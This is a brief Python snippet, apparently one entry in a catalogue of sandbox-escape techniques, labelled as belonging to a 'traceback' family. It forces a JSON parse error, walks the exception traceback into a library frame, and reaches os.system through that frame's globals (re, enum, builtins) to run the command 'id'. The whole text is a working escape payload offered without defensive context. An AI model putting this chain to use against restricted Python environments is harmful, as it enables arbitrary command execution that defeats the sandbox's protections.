# Source: https://github.com/saint2706/Coding-For-MBA/pull/609
# Family: traceback
# What: __context__ of a chained exception carries a traceback into library frames
import json
try:
    json.loads("{")
except ValueError as e:
    tb = e.__traceback__
    while tb.tb_next:
        tb = tb.tb_next
    tb.tb_frame.f_globals["re"].enum.bltns.__import__("os").system("id")
